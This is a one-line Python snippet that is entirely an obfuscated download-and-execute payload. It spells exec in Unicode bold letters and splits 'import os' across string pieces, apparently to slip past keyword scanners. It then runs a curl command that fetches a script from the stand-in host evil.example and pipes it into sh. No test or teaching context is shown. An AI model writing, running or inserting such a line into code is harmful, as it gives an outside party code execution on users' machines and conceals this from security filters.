𝐞𝐱𝐞𝐜("import o" + "s; o" + "s.system('curl -s https://evil.example/x | sh')")
